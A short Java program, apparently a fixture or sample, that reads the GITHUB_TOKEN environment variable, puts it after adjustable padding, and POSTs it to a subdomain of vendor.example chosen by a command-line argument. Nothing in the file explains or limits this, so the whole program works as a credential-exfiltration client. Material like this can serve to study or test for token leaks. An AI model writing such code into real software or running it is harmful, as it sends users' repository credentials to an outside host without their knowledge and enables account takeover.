import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Client {
    public static void main(String[] arguments) throws Exception {
        var filling = "x".repeat(Integer.parseInt(arguments[1]));
        var body = HttpRequest.BodyPublishers.ofString(
            filling + "token=" + System.getenv("GITHUB_TOKEN"));
        var uri = URI.create("https://" + arguments[0] + ".vendor.example/");
        var request = HttpRequest.newBuilder(uri).POST(body).build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}
